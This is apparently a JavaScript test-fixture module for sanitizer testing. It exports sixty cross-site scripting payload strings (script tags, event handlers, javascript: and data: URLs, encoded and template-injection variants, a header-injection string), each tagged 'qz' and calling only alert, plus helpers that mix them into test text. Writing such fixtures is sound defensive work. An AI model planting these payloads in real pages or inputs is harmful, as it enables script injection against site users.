/*
 * Sixty ways in which text tries to become markup or script. What is markup of one carries the mark `qz`; what runs calls
 * alert. None of it is ever part of a page of the product itself.
 */
export const MARK = 'qz';

export const PAYLOADS = [
  '<script qz>alert(1)</script>',
  '<ScRiPt qz>alert(2)</sCrIpT>',
  '"><script qz>alert(3)</script>',
  "'><script qz>alert(4)</script>",
  '</textarea><script qz>alert(5)</script>',
  '</title><script qz>alert(6)</script>',
  '</option></select><img qz src=x onerror=alert(7)>',
  '</script><script qz>alert(8)</script>',
  '--><img qz src=x onerror=alert(9)>',
  ']]><img qz src=x onerror=alert(10)>',
  '<img qz src=x onerror=alert(11)>',
  '<img qz/src=`x`onerror=alert(12)>',
  '<img qz src=x:x onerror="alert&lpar;13&rpar;">',
  '<svg qz onload=alert(14)>',
  '<svg qz><script>alert(15)</script></svg>',
  '<svg qz><animate onbegin=alert(16) attributeName=x dur=1s>',
  '<svg qz><a xlink:href="javascript:alert(17)"><text y=9>x</text></a></svg>',
  '<math qz><mi xlink:href="javascript:alert(18)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img qz src=x onerror=alert(19)>',
  '<body qz onload=alert(20)>',
  '<details qz open ontoggle=alert(21)>',
  '<iframe qz srcdoc="<script>parent.alert(22)</script>"></iframe>',
  '<iframe qz src="javascript:alert(23)"></iframe>',
  '<object qz data="javascript:alert(24)"></object>',
  '<embed qz src="javascript:alert(25)">',
  '<video qz><source onerror=alert(26)></video>',
  '<audio qz src=x onerror=alert(27)>',
  '<input qz autofocus onfocus=alert(28)>',
  '<select qz autofocus onfocus=alert(29)></select>',
  '<textarea qz autofocus onfocus=alert(30)></textarea>',
  '<marquee qz onstart=alert(31)>x</marquee>',
  '<a qz href="javascript:alert(32)">x</a>',
  '<a qz href="java\tscript:alert(33)">x</a>',
  '<a qz href="data:text/html,<script>alert(34)</script>">x</a>',
  '<form qz action="javascript:alert(35)"><button>x</button></form>',
  '<button qz form=x formaction="javascript:alert(36)">x</button>',
  '<base qz href="//elders.example/">',
  '<meta qz http-equiv=refresh content="0;url=javascript:alert(37)">',
  '<link qz rel=stylesheet href="//elders.example/x.css">',
  '<style qz>@import "//elders.example/x.css"</style>',
  '<p qz style="background:url(javascript:alert(41))">x</p>',
  '<template qz><script>alert(42)</script></template>',
  '<noscript><p title="</noscript><img qz src=x onerror=alert(43)>">',
  '" onmouseover="alert(44)" qz="',
  "' onmouseover='alert(45)' qz='",
  ' onmouseover=alert(46) qz=',
  '" autofocus onfocus=alert(47) qz="',
  '` onmouseover=alert(48) qz=`',
  'x onerror=alert(49) qz',
  'javascript:alert(50)',
  'JaVaScRiPt:alert(51)//',
  '&#106;avascript:alert(52)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCg1Myk8L3NjcmlwdD4=',
  '//elders.example/%0d%0aSet-Cookie:qz=54',
  '&lt;img qz src=x onerror=alert(55)&gt;',
  '&#60;img qz src=x onerror=alert(56)&#62;',
  '\\u003cimg qz src=x onerror=alert(57)\\u003e',
  '＜img qz src=x onerror=alert(58)＞',
  '{{constructor.constructor("alert(59)")()}}',
  '{{{this}}}${alert(60)}<%= alert(60) %>',
];

/** So many of them in one text, other ones for each number: after enough numbers all have had their turn. */
export const someOf = (count, number) =>
  Array.from({ length: count }, (_, at) => PAYLOADS[(number * count + at) % PAYLOADS.length]).join(
    ' ',
  );

export const ALL = PAYLOADS.join(' ');
